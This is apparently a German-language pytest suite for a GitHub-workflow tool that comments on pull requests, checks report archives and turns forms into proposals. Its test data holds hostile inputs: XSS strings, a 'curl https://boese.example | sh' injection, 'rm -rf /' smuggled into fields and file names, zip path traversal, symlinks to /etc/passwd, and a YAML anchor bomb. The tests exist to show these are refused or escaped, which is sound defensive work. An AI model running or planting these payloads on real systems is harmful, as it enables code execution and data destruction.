"""The tasks of the workflows, replayed from folders of events; nothing of a stranger is more than text."""

from __future__ import annotations

import io
import json
import shutil
import stat
import subprocess
import zipfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from praxis.cli import main
from praxis.editing.service.artifacts import RefusedError, read_report
from praxis.editing.service.client import ServiceError
from praxis.editing.service.comments import MARK, inert, proposal_comment
from praxis.editing.service.context import EventError, Run
from praxis.editing.service.releases import collect
from praxis.editing.service.replay import FolderService
from praxis.editing.service.reports import FILE, MAX_BYTES, FindingData, RecordData, Report, proposal_report
from praxis.library import Library
from tests.broken import case, gap, site
from tests.builders import TODAY
from tests.site_building import PROJECT

EVENTS = PROJECT / "tests" / "events"
RECORD = RecordData(kind="praxis", id="besuche", title="Besuche", path="docs/praxis/besuche.md")


def archive(files: Mapping[str, bytes], mode: int = 0o100644) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as opened:
        for name, content in files.items():
            entry = zipfile.ZipInfo(name)
            entry.external_attr = mode << 16
            opened.writestr(entry, content, zipfile.ZIP_DEFLATED)
    return stream.getvalue()


def zipped(report: Report) -> bytes:
    return archive({FILE: report.model_dump_json().encode()})


def folder(tmp_path: Path, name: str, report: bytes | None = None) -> Path:
    target = tmp_path / "ereignis"
    shutil.copytree(EVENTS / name, target)
    if report is not None:
        (target / "bericht.zip").write_bytes(report)
    return target


def change(event_folder: Path, file: str, **changes: Any) -> None:
    path = event_folder / file
    data = json.loads(path.read_text(encoding="utf-8"))
    path.write_text(json.dumps({**data, **changes}), encoding="utf-8")


def replay(root: Path, task: str, event_folder: Path, status: int = 0) -> list[dict[str, Any]]:
    assert main(["--root", str(root), "workflow", task, "--replay", str(event_folder)]) == status
    requests: list[dict[str, Any]] = json.loads((event_folder / "anfragen.json").read_text(encoding="utf-8"))
    return requests


def writes(requests: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [request for request in requests if request["method"] != "GET"]


# The comment under a proposal


def test_the_comment_of_ours_is_updated(tmp_path: Path) -> None:
    root = site(tmp_path / "site", {})
    requests = replay(root, "comment", folder(tmp_path, "kommentar", zipped(Report(number=7, records=[RECORD]))))
    [request] = writes(requests)
    assert (request["method"], request["path"]) == ("PATCH", "/repos/praxis/praxis/issues/comments/32")
    text = request["body"]["body"]
    assert text.startswith(
        f"{MARK}\nDanke für den Vorschlag! Die Prüfung hat keinen Fehler gefunden; jetzt liest die Redaktion."
    )
    assert "(https://github.com/praxis/praxis/actions/runs/77#artifacts)" in text


def test_the_comment_of_ours_is_found_behind_a_long_talk(tmp_path: Path) -> None:
    """The service gives a hundred comments at once; ours may come after them."""
    events = folder(tmp_path, "kommentar", zipped(Report(number=7)))
    address = "GET /repos/praxis/praxis/issues/7/comments?per_page=100&page="
    talk = [{"id": number, "user": {"login": "jemand"}, "body": "Hallo"} for number in range(100)]
    ours = {"id": 132, "user": {"login": "github-actions[bot]"}, "body": f"{MARK}\nalt"}
    change(events, "antworten.json", **{f"{address}1": talk, f"{address}2": talk, f"{address}3": [ours]})
    [request] = writes(replay(site(tmp_path / "site", {}), "comment", events))
    assert (request["method"], request["path"]) == ("PATCH", "/repos/praxis/praxis/issues/comments/132")


def test_the_folder_replays_the_comment_as_it_is(tmp_path: Path) -> None:
    [request] = writes(replay(site(tmp_path / "site", {}), "comment", folder(tmp_path, "kommentar")))
    text = request["body"]["body"]
    assert "Die Prüfung nennt 1\u00a0Fehler; bis dahin kann er nicht erscheinen." in text
    assert "Eine Vorschau gibt es, sobald die Fehler behoben sind." in text
    assert "#artifacts" not in text
    assert "<script" not in text
    assert "### &lt;script&gt;alert\\(1\\)" in text


def test_a_folder_without_the_file_it_names_says_so(tmp_path: Path) -> None:
    events = folder(tmp_path, "kommentar")
    (events / "bericht.json").unlink()
    with pytest.raises(ServiceError, match=r"„bericht\.zip“ liegt nicht in „"):
        FolderService(events).download("/repos/praxis/praxis/actions/artifacts/6/zip", 100)
    requests = replay(site(tmp_path / "site", {}), "comment", events)
    assert [request for request in writes(requests) if "lässt sich nicht laden" not in request["body"]["body"]] == []


def test_a_report_that_claims_another_proposal_is_not_believed(tmp_path: Path) -> None:
    events = folder(tmp_path, "kommentar", zipped(Report(number=8)))
    answers = json.loads((events / "antworten.json").read_text(encoding="utf-8"))
    answers["GET /repos/praxis/praxis/pulls/8"] = {"number": 8, "state": "open", "head": {"sha": "f" * 40}}
    (events / "antworten.json").write_text(json.dumps(answers), encoding="utf-8")
    assert writes(replay(site(tmp_path / "site", {}), "comment", events)) == []


def test_without_a_number_the_commit_names_the_proposal(tmp_path: Path) -> None:
    events = folder(tmp_path, "kommentar", zipped(Report()))
    head = "a" * 40
    answers = json.loads((events / "antworten.json").read_text(encoding="utf-8"))
    pull = {"number": 7, "state": "open", "head": {"sha": head}}
    answers[f"GET /repos/praxis/praxis/commits/{head}/pulls"] = [pull]
    (events / "antworten.json").write_text(json.dumps(answers), encoding="utf-8")
    [request] = writes(replay(site(tmp_path / "site", {}), "comment", events))
    assert request["path"].endswith("/issues/comments/32")


def symlinked() -> bytes:
    return archive({FILE: b"/etc/passwd"}, stat.S_IFLNK | 0o777)


BAD_ARCHIVES = [
    (b"kein Archiv", "Das Archiv lässt sich nicht öffnen."),
    (b"PK\x03\x04" + b"\x00" * 50, "Das Archiv lässt sich nicht öffnen."),
    (b"x" * (MAX_BYTES + 1), "Das Archiv ist zu groß."),
    (archive({}), "Das Archiv enthält nicht genau die eine erwartete Datei."),
    (archive({FILE: b"{}", "noch.json": b"{}"}), "Das Archiv enthält nicht genau die eine erwartete Datei."),
    (archive({"../bericht.json": b"{}"}), "Das Archiv enthält nicht genau die eine erwartete Datei."),
    (archive({"/etc/bericht.json": b"{}"}), "Das Archiv enthält nicht genau die eine erwartete Datei."),
    (symlinked(), "Im Archiv liegt keine gewöhnliche Datei."),
    (archive({FILE: b"0" * 50_000_000}), "Der Bericht ist zu groß."),
    (archive({FILE: b"\x7fELF\x00"}), "Der Bericht hat nicht die verabredete Form."),
    (archive({FILE: b"[" * 100_000}), "Der Bericht hat nicht die verabredete Form."),
    (archive({FILE: b'{"version": 2}'}), "Der Bericht hat nicht die verabredete Form."),
    (archive({FILE: b'{"version": 1, "command": "rm"}'}), "Der Bericht hat nicht die verabredete Form."),
    (archive({FILE: b'{"number": "7; rm -rf /"}'}), "Der Bericht hat nicht die verabredete Form."),
    (archive({FILE: b'{"number": -1}'}), "Der Bericht hat nicht die verabredete Form."),
    (archive({FILE: b'{"records": [{"kind": "../x", "id": "a", "title": "t", "path": "p"}]}'}), "Der Bericht hat nicht die verabredete Form."),
]  # fmt: skip


@pytest.mark.parametrize(("content", "message"), BAD_ARCHIVES, ids=range(len(BAD_ARCHIVES)))
def test_an_artifact_that_is_not_what_was_agreed_is_refused(content: bytes, message: str) -> None:
    with pytest.raises(RefusedError) as refused:
        read_report(content)
    assert str(refused.value) == message


def test_a_refused_artifact_is_told_in_our_words(tmp_path: Path) -> None:
    events = folder(tmp_path, "kommentar", b"kein Archiv")
    head = "a" * 40
    answers = json.loads((events / "antworten.json").read_text(encoding="utf-8"))
    answers[f"GET /repos/praxis/praxis/commits/{head}/pulls"] = [{"number": 7, "state": "open", "head": {"sha": head}}]
    (events / "antworten.json").write_text(json.dumps(answers), encoding="utf-8")
    [request] = writes(replay(site(tmp_path / "site", {}), "comment", events))
    assert request["body"]["body"] == (
        f"{MARK}\nDie Prüfung dieses Vorschlags hat keinen lesbaren Bericht hinterlassen: "
        "Das Archiv lässt sich nicht öffnen.\n\n[Zum Protokoll](https://github.com/praxis/praxis/actions/runs/77)\n"
    )


@pytest.mark.parametrize(
    "run", [{}, {"id": "77"}, {"id": 77, "head_sha": "HEAD"}, {"id": 77, "head_sha": "../../pulls/1"}, {"id": True, "head_sha": "a" * 40}]
)  # fmt: skip
def test_an_event_without_a_run_is_an_error(tmp_path: Path, run: dict[str, Any]) -> None:
    events = folder(tmp_path, "kommentar")
    change(events, "ereignis.json", workflow_run=run)
    assert replay(site(tmp_path / "site", {}), "comment", events, status=1) == []


HOSTILE = [
    "<script>alert(1)</script>",
    "![x](https://boese.example/pixel.png)",
    "[Klick](https://boese.example)",
    "https://boese.example www.boese.example",
    "@alle und #1 und GH-1",
    "`code` **fett** _kursiv_ ~~weg~~",
    "$(rm -rf /); `id` && curl x | sh",
    "\n\n# Überschrift\n\n- Liste\n1. Zahl",
    "<!-- praxis-vorschlag -->",
    "&lt;img src=x onerror=alert(1)&gt;",
    "| a | b |\n|---|---|",
    "\u202egnp.exe",
    "::set-output name=x::y",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_strangers_text_is_text_in_the_comment(text: str) -> None:
    import markdown
    from bs4 import BeautifulSoup

    report = Report(
        findings=[FindingData(file=text[:300], line=1, severity="error", message=text, remedy=text)],
        errors=1,
        records=[
            RECORD.model_copy(
                update={"title": text, "path": text, "gaps": [text], "questions": [text], "duplicates": [text]}
            )
        ],
    )
    comment = proposal_comment(report, "https://github.com/praxis/praxis/actions/runs/77")
    html = BeautifulSoup(markdown.markdown(comment, extensions=[]), "html.parser")
    assert {link["href"] for link in html.find_all("a")} == {"https://github.com/praxis/praxis/actions/runs/77"}
    assert not html.find_all(["script", "img", "table", "h1", "em", "del", "ol"])
    assert comment.count(MARK) == 1
    assert "://boese" not in comment
    assert "www.boese" not in comment
    assert "@alle" not in comment


def test_angle_brackets_show_as_such() -> None:
    """``\\&lt;`` would be an escaped ampersand for the service, and readers would see its code."""
    assert inert("<b> & &lt; #1") == "&lt;b&gt; &amp; &amp;lt; \\#\u20601"


@settings(max_examples=100, deadline=None)
@example("&gt;")
@given(st.text(max_size=200))
def test_inert_text_stays_on_its_line_and_keeps_its_words(text: str) -> None:
    shown = inert(text)
    assert "\n" not in shown
    assert "<" not in shown
    letters = [char for char in text if char.isalnum() and char.isprintable()]
    kept = shown.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
    assert [char for char in kept if char.isalnum() and char.isprintable()] == letters


def test_the_comment_tells_what_is_missing_as_questions(tmp_path: Path) -> None:
    files = {"docs/praxis/besuche.md": case(), "docs/luecken/eltern.md": gap(alter="alter: {von: 0, bis: 2}")}
    library = Library.load(site(tmp_path, files), TODAY)
    report = proposal_report(library, frozenset(files), 7)
    text = proposal_comment(report, "https://github.com/praxis/praxis/actions/runs/77").replace("\\", "")
    assert "### Begrüßungsbesuche in Musterstadt" in text
    assert "○ Kosten (nicht berichtet)" in text
    assert (
        "**Diese Lücken könnte der Fall beantworten:**\n- „Wie erreichen wir Familien mit einjährigen Kindern?“" in text
    )
    assert "- Woher kommt das Geld?" in text
    assert "die PDFs liegen unter `pdf/`" in text


def test_a_very_long_comment_is_cut() -> None:
    finding = FindingData(file="f" * 300, line=1, severity="error", message="m" * 600, remedy="r" * 600)
    report = Report(findings=[finding] * 50, records=[RECORD.model_copy(update={"questions": ["q" * 600] * 40})] * 5)
    text = proposal_comment(report, "https://x")
    assert len(text) < 60_100
    assert text.endswith("(gekürzt)\n")


# The report of a proposal


def git(root: Path, *arguments: str) -> None:
    command = [
        "git",
        "-c",
        "user.name=t",
        "-c",
        "user.email=t@example.org",
        "-c",
        "init.defaultBranch=main",
        *arguments,
    ]
    subprocess.run(command, cwd=root, check=True, capture_output=True)


def proposal(tmp_path: Path, files: Mapping[str, str | bytes], number: int = 7) -> tuple[Path, Path]:
    """A checkout whose last commit adds the files, and the folder of its event."""
    root = site(tmp_path / "site", {"docs/praxis/alt.md": case(titel="titel: Alt")})
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "Anfang")
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)
    git(root, "add", "-A")
    git(root, "commit", "-qm", "Vorschlag")
    events = tmp_path / "ereignis"
    events.mkdir()
    (events / "ereignis.json").write_text(json.dumps({"pull_request": {"number": number}}), encoding="utf-8")
    (events / "antworten.json").write_text("{}", encoding="utf-8")
    return root, events


def reported(root: Path, events: Path) -> Report:
    out = events / "bericht"
    assert main(["--root", str(root), "workflow", "report", "--replay", str(events), "--out", str(out)]) == 0
    content = (out / FILE).read_bytes()
    assert len(content) <= MAX_BYTES
    return read_report(archive({FILE: content}))


def test_only_what_changed_is_reported(tmp_path: Path) -> None:
    root, events = proposal(tmp_path, {"docs/praxis/neu.md": case(titel="titel: Neu")})
    report = reported(root, events)
    assert ([record.id for record in report.records], report.number, report.errors) == (["neu"], 7, 0)


def test_a_hostile_proposal_is_reported_and_publishes_nothing(tmp_path: Path) -> None:
    """Scripts in fields, injection in titles and names, a huge file, a link, a renamed program."""
    root, events = proposal(
        tmp_path,
        {
            "docs/praxis/skript.md": case("<script>alert(1)</script>\n", titel="titel: '<img src=x onerror=alert(1)>'"),
            "docs/praxis/titel.md": case(titel="titel: '\"; $(curl https://boese.example | sh) `id` ::error::'"),
            "docs/praxis/$(touch x)`id`.md": case(),
            "docs/praxis/binaer.md": b"\x7fELF\x02\x01\x01\x00" + bytes(100),
            "docs/assets/bild.png": b"MZ\x90\x00kein Bild",
            "docs/assets/bild.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
            "docs/praxis/bombe.md": "---\na: &a [x]\nb: [*a, *a]\n---\n",
        },
    )
    (root / "docs/praxis/link.md").symlink_to("/etc/passwd")
    with (root / "docs/praxis/gross.md").open("wb") as file:
        file.truncate(200 * 1024 * 1024)
    git(root, "add", "docs/praxis/link.md")
    git(root, "commit", "-q", "--amend", "-m", "Noch etwas")
    report = reported(root, events)
    found = {(finding.file, finding.message) for finding in report.findings}
    assert ("docs/praxis/gross.md", "Die Datei ist 200,0 MiB groß; erlaubt ist 1 MiB.") in found
    assert ("docs/praxis/link.md", "Die Datei ist eine Verknüpfung (Symlink) auf eine andere Stelle.") in found
    assert ("docs/praxis/binaer.md", "Die Datei enthält keinen Text, sondern Binärdaten.") in found
    assert ("docs/assets/bild.png", "Die Datei endet auf „.png“, enthält aber kein solches Bild.") in found
    assert ("docs/praxis/skript.md", "Das HTML „<script>“ ist nicht erlaubt.") in found
    assert ("docs/praxis/skript.md", "Im Feld steht HTML („<img“).") in found
    assert ("docs/praxis/bombe.md", "Der Kopf verwendet YAML-Anker, -Verweise oder -Typangaben (&, *, !).") in found
    assert any(file.startswith("docs/praxis/$(touch") for file, _ in found)
    assert report.errors >= 8
    assert Library.load(root, TODAY).has_errors, "errors stop the build: nothing is published"
    assert not (root / "x").exists()
    comment = proposal_comment(report, "https://github.com/praxis/praxis/actions/runs/77")
    assert "<img" not in comment
    assert "<script" not in comment


def test_a_base_that_is_no_commit_is_an_error(tmp_path: Path) -> None:
    root, events = proposal(tmp_path, {"docs/praxis/neu.md": case()})
    arguments = ["--root", str(root), "workflow", "report", "--replay", str(events), "--out", str(events), "--base"]
    assert main([*arguments, "gibt-es-nicht"]) == 1


def test_the_untrusted_run_is_replayed_and_its_report_becomes_the_comment(tmp_path: Path) -> None:
    """Both halves one after the other, as the service runs them: the report is all that passes from one to the other."""
    root, _ = proposal(tmp_path, {"docs/praxis/neu.md": case("Siehe [hier]().\n", titel="titel: '@alle $(id)'")})
    checked = folder(tmp_path / "pruefung", "pruefung")
    out = tmp_path / "bericht"
    assert main(["--root", str(root), "workflow", "report", "--replay", str(checked), "--out", str(out)]) == 0
    comments = folder(tmp_path / "kommentar", "kommentar", archive({FILE: (out / FILE).read_bytes()}))
    [request] = writes(replay(site(tmp_path / "haupt", {}), "comment", comments))
    text = request["body"]["body"]
    assert "Die Prüfung nennt 1\u00a0Fehler; bis dahin kann er nicht erscheinen." in text
    assert "- Fehler in docs/praxis/neu.md, Zeile 21: Dem Link fehlt die Adresse." in text
    assert "### @\u2060alle \\$\\(id\\)" in text
    assert "boese" not in text


# A form becomes a proposal


def test_a_form_becomes_a_branch_with_one_file_and_a_proposal(tmp_path: Path) -> None:
    events = folder(tmp_path, "formular")
    requests = writes(replay(site(tmp_path / "site", {}), "form", events))
    assert [(request["method"], request["path"].removeprefix("/repos/praxis/praxis")) for request in requests] == [
        ("POST", "/git/blobs"),
        ("POST", "/git/trees"),
        ("POST", "/git/commits"),
        ("POST", "/git/refs"),
        ("POST", "/pulls"),
        ("POST", "/actions/workflows/pruefen.yml/dispatches"),
        ("POST", "/issues/12/comments"),
    ]
    bodies = [request["body"] for request in requests]
    [entry] = bodies[1]["tree"]
    assert entry == {
        "path": "docs/luecken/eltern-ohne-hebamme-rm-rf-id.md", "mode": "100644", "type": "blob", "sha": "c" * 40,
    }  # fmt: skip
    assert bodies[0]["content"].startswith("---\ntitel: Eltern ohne Hebamme $(rm -rf /) `id`\n")
    assert bodies[2]["author"] == {
        "name": "jugendamt-musterstadt", "email": "4711+jugendamt-musterstadt@users.noreply.github.com",
    }  # fmt: skip
    assert bodies[2]["message"] == "Propose docs/luecken/eltern-ohne-hebamme-rm-rf-id.md from form #12"
    assert bodies[4]["title"] == "Lücke: eltern-ohne-hebamme-rm-rf-id"
    assert bodies[4]["head"] == "formular/12"
    assert bodies[6]["body"].startswith(f"{MARK}\nDanke! Aus Ihren Angaben ist ein Vorschlag geworden: #13.")
    assert not any("boese" in json.dumps(body) for body in bodies)


def test_a_second_try_replaces_the_branch_and_keeps_the_proposal(tmp_path: Path) -> None:
    events = folder(tmp_path, "formular")
    answers = json.loads((events / "antworten.json").read_text(encoding="utf-8"))
    answers["GET /repos/praxis/praxis/git/ref/heads/formular/12"] = {"object": {"sha": "1" * 40}}
    answers["GET /repos/praxis/praxis/pulls?state=open&head=praxis:formular/12"] = [{"number": 13}]
    (events / "antworten.json").write_text(json.dumps(answers), encoding="utf-8")
    requests = writes(replay(site(tmp_path / "site", {}), "form", events))
    assert {"sha": "e" * 40, "force": True} in [request.get("body") for request in requests]
    assert not any(request["path"].endswith("/pulls") for request in requests)


@pytest.mark.parametrize("label", ["fehler", "formular-", "formular-kapitel", "$(id)"])
def test_other_labels_do_nothing(tmp_path: Path, label: str) -> None:
    events = folder(tmp_path, "formular")
    change(events, "ereignis.json", label={"name": label})
    assert replay(site(tmp_path / "site", {}), "form", events) == []


@pytest.mark.parametrize("login", ["a b", "x\ny", "a<b>", "", "-x", "é"])
def test_an_odd_account_is_not_credited(tmp_path: Path, login: str) -> None:
    events = folder(tmp_path, "formular")
    event = json.loads((events / "ereignis.json").read_text(encoding="utf-8"))
    event["issue"]["user"]["login"] = login
    (events / "ereignis.json").write_text(json.dumps(event), encoding="utf-8")
    requests = writes(replay(site(tmp_path / "site", {}), "form", events))
    assert all("author" not in request.get("body", {}) for request in requests)


# The nightly list


def test_the_list_of_what_is_due_is_kept_in_one_issue(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1748736000")
    root = site(tmp_path / "site", {"docs/praxis/a.md": case(pruefung="pruefung: 2025-01-01", titel="titel: '@alle'")})
    [request] = writes(replay(root, "nightly", folder(tmp_path, "nachts")))
    assert (request["method"], request["path"]) == ("PATCH", "/repos/praxis/praxis/issues/4")
    assert "## Fällig" in request["body"]["body"]
    assert "@alle" not in request["body"]["body"]


def test_where_nothing_is_due_the_list_is_closed(tmp_path: Path) -> None:
    [request] = writes(replay(site(tmp_path / "site", {}), "nightly", folder(tmp_path, "nachts")))
    assert request["body"] == {"state": "closed"}


# A release


def test_a_release_carries_site_book_and_offline_copy(tmp_path: Path) -> None:
    root = site(tmp_path / "site", {})
    for name in ("site/index.html", "site/pdf/handbuch.pdf", "dist/praxis-offline.zip"):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(b"x")
    (root / "site/geheim").symlink_to("/etc/passwd")
    collect(root)
    with zipfile.ZipFile(root / "dist/praxis-website.zip") as opened:
        assert opened.namelist() == ["index.html", "pdf/handbuch.pdf"]
    requests = replay(root, "release", folder(tmp_path, "veroeffentlichung"))
    assert [request["path"].partition("?name=")[2] for request in requests] == [
        "praxis-website.zip",
        "praxis-handbuch.pdf",
        "praxis-offline.zip",
    ]


def test_a_release_without_its_files_is_an_error(tmp_path: Path) -> None:
    root = site(tmp_path / "site", {})
    assert replay(root, "release", folder(tmp_path, "veroeffentlichung"), status=1) == []
    with pytest.raises(EventError, match="liegt keine Website mit dem Buch"):
        collect(root)


# The run


def test_a_run_without_event_or_repository_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(EventError, match="GITHUB_REPOSITORY nennt kein Repositorium"):
        Run.of({"GITHUB_REPOSITORY": "a/b/../c"})
    with pytest.raises(EventError, match="Das Ereignis fehlt oder ist zu groß"):
        Run.of({"GITHUB_REPOSITORY": "a/b", "GITHUB_EVENT_PATH": str(tmp_path)})
    assert main(["workflow", "comment", "--replay", str(tmp_path)]) == 2
